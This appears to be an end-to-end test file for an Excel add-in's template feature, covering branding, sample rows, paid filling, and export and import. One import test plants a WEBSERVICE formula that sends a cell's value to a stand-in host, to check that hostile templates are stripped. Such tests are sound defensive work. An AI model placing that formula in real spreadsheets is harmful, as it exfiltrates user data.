// A sheet saved as one's own template: used with samples, filled for a price that was shown, exported and imported.
import { copyFileSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { describeJourneys, type Journey } from '../support/journey';
import { formulaAt } from '../support/sharingPane';
import { add, builtCard, errorsOn, fill } from '../support/templatesPane';

const withKey = { withKey: true };

async function prepareSheet({ playground }: Journey): Promise<void> {
  await playground.type('A1', [
    ['Word', 'Length'],
    ['iphone', '=LEN(A2)'],
    ["'01234", '=TODAY()'],
  ]);
  await playground.type('A6', '=RURETAIL.SEARCH(A2,3)');
  await playground.table('A6');
  await playground.type('D2', '=ROWS(A6#)');
  await playground.waitForCell('D2', 4);
}

async function save({ playground }: Journey, name: string): Promise<void> {
  const { pane } = playground;
  await pane.getByRole('tab', { name: 'Start' }).click();
  await pane.getByRole('button', { name: 'Save this sheet as a template' }).click();
  await pane.getByRole('textbox', { name: 'Name of the template' }).fill(name);
  await pane.getByRole('button', { name: 'Save', exact: true }).click();
}

const printed = ({ addIn }: Journey['playground'], name: string) =>
  addIn.evaluate(
    (called) =>
      Excel.run(async (context) => {
        const { pageLayout } = context.workbook.worksheets.getItem(called);
        const area = pageLayout.getPrintAreaOrNullObject();
        pageLayout.load('orientation');
        area.load('address');
        await context.sync();
        return `${pageLayout.orientation} ${area.address}`;
      }),
    name,
  );

const section = ({ playground }: Journey) => playground.pane.getByRole('region', { name: 'Your templates' });
const card = (world: Journey, name: string) => section(world).getByRole('article', { name, exact: true });

/** The pictures on a sheet, as Excel reports them. */
const pictures = ({ addIn }: Journey['playground'], name: string) =>
  addIn.evaluate(
    (called) =>
      Excel.run(async (context) => {
        const { shapes } = context.workbook.worksheets.getItem(called);
        shapes.load(['items/name', 'items/height', 'items/left']);
        await context.sync();
        return shapes.items.map((shape) => [shape.name, shape.height, shape.left > 100]);
      }),
    name,
  );

describeJourneys('own templates', (journey) => {
  journey(
    'a company’s color, font and logo are chosen once, for own templates and for those that come with Spillway',
    async (world) => {
      const { playground } = world;
      const { pane } = playground;
      await prepareSheet(world);
      await save(world, 'My search');
      await section(world)
        .getByText(/^Saved as/)
        .waitFor();
      await pane.getByText('Your company’s look').click();
      const file = path.join(tmpdir(), `logo-${process.pid}.png`);
      writeFileSync(file, 'no picture');
      await pane.getByLabel('Logo', { exact: true }).setInputFiles(file);
      await pane.getByRole('alert').getByText('This is not a picture').waitFor({ state: 'attached' });
      copyFileSync('assets/icon-80.png', file);
      await pane.getByLabel('Logo', { exact: true }).setInputFiles(file);
      await pane.getByRole('img', { name: 'Logo' }).waitFor();
      await pane.getByLabel('Accent color').fill('#7a1f5c');
      await pane.locator('p').getByText('Saved. Sheets that you add from now on').waitFor();

      await card(world, 'My search').getByRole('button', { name: 'Use My search' }).click();
      await section(world).getByText('Added: Sheet1 2.').waitFor();
      await add(playground, { title: 'Employer profiles' });
      const [own, profiles] = (await playground.sheets()).slice(1);
      for (const sheet of [own!, profiles!])
        expect(await pictures(playground, sheet)).toEqual([['Logo', 24, true]]);
      expect(await pictures(playground, 'Sheet1')).toEqual([]);
      const color = await playground.addIn.evaluate(
        (name) =>
          Excel.run(async (context) => {
            const sheet = context.workbook.worksheets.getItem(name);
            sheet.load('tabColor');
            await context.sync();
            return sheet.tabColor;
          }),
        profiles!,
      );
      expect(color.toLowerCase()).toBe('#7a1f5c');

      await pane.getByRole('button', { name: 'Remove the logo' }).click();
      await pane.getByRole('img', { name: 'Logo' }).waitFor({ state: 'detached' });
      await card(world, 'My search').getByRole('button', { name: 'Use My search' }).click();
      await section(world).getByText('Added: Sheet1 3.').waitFor();
      expect(await pictures(playground, 'Sheet1 3')).toEqual([]);
    },
    withKey,
  );

  journey(
    'a sheet becomes a template, is used twice side by side, and is filled for the price that was shown',
    async (world) => {
      const { playground, stack } = world;
      await prepareSheet(world);
      await playground.addIn.evaluate(() =>
        Excel.run(async (context) => {
          context.workbook.worksheets.getItem('Sheet1').pageLayout.orientation = 'Landscape';
          await context.sync();
        }),
      );
      const before = await stack.sandbox.counters();
      await save(world, 'My search');
      await section(world)
        .getByText('Saved as “My search”. 1 formula kept as values: B3 uses TODAY.')
        .waitFor();
      await card(world, 'My search').getByRole('button', { name: 'Use My search' }).click();
      await section(world).getByText('Added: Sheet1 2. The rows are samples and cost nothing.').waitFor();
      await card(world, 'My search').getByRole('button', { name: 'Use My search' }).click();
      await section(world).getByText('Added: Sheet1 3. The rows are samples and cost nothing.').waitFor();
      await playground.quiet();
      const sheets = ['Sheet1', 'Sheet1 2', 'Sheet1 3'];
      expect(await playground.sheets()).toEqual(sheets);
      expect(await errorsOn(playground, sheets)).toEqual([]);
      expect(await playground.values("'Sheet1 2'!A1:B2")).toEqual([
        ['Word', 'Length'],
        ['iphone', 6],
      ]);
      expect(await playground.value("'Sheet1 2'!A3")).toBe('01234');
      expect(await printed(playground, 'Sheet1 2')).toMatch(/^Landscape 'Sheet1 2'!A1:[A-Z]+\d+$/);
      expect(await formulaAt(playground, "'Sheet1 2'!A6")).toBe('');
      expect(await stack.sandbox.counters()).toEqual(before);

      await playground.type("'Sheet1 2'!A2", 'macbook');
      await fill(playground, builtCard(playground, 'My search', ['Sheet1 2']), '1 request: 1 credit');
      expect(await formulaAt(playground, "'Sheet1 2'!A6")).toBe('=RURETAIL.SEARCH(A2,3)');
      await playground.waitForCell("'Sheet1 2'!D2", 4);
      expect(await errorsOn(playground, sheets)).toEqual([]);
      // The second one is as it was.
      expect(await formulaAt(playground, "'Sheet1 3'!A6")).toBe('');
      const after = await stack.sandbox.counters();
      expect([after.requests, after.credits]).toEqual([before.requests + 1, before.credits + 1]);
    },
    withKey,
  );

  journey(
    'a template is renamed, deleted, restored, exported and imported, and a hostile file can spend nothing',
    async (world) => {
      const { playground, stack } = world;
      await prepareSheet(world);
      const before = await stack.sandbox.counters();
      await save(world, 'First');
      await card(world, 'First').getByRole('button', { name: 'Rename' }).click();
      await card(world, 'First').getByRole('textbox', { name: 'New name' }).fill('Renamed');
      await card(world, 'First').getByRole('button', { name: 'Save' }).click();
      const renamed = card(world, 'Renamed');
      const download = playground.page.waitForEvent('download');
      await renamed.getByRole('button', { name: 'Export' }).click();
      const exported = JSON.parse(readFileSync(await (await download).path(), 'utf8')) as Record<
        string,
        unknown
      >;
      expect(JSON.stringify(exported)).not.toMatch(/sandbox-/);
      await renamed.getByRole('button', { name: 'Delete' }).click();
      await renamed.waitFor({ state: 'detached' });
      await section(world).getByRole('button', { name: 'Undo delete' }).click();
      await renamed.waitFor();

      const file = path.join(tmpdir(), `template-${process.pid}.json`);
      const rows = [
        [{ f: '=WEBSERVICE("https://x.test/?"&B1)' }, { f: '=NLRETAIL.SEARCH("tea",150)' }, 'ok'],
      ];
      writeFileSync(file, JSON.stringify({ ...exported, title: 'Theirs', rows, live: [] }));
      await playground.pane.getByLabel('Template file').setInputFiles(file);
      await section(world)
        .getByText(
          'Imported “Theirs”. 2 formulas left out: A1 uses WEBSERVICE; B1 calls Spillway among the samples.',
        )
        .waitFor();
      await card(world, 'Theirs').getByRole('button', { name: 'Use Theirs' }).click();
      await section(world).getByText('Added: Sheet1 2.').waitFor();
      await playground.quiet();
      expect(await playground.values("'Sheet1 2'!A1:C1")).toEqual([['', '', 'ok']]);
      writeFileSync(file, '{"spillway":"template"}');
      await playground.pane.getByLabel('Template file').setInputFiles(file);
      await section(world)
        .getByText(/is not a Spillway template/)
        .waitFor();
      expect(await stack.sandbox.counters()).toEqual(before);
    },
    withKey,
  );
});
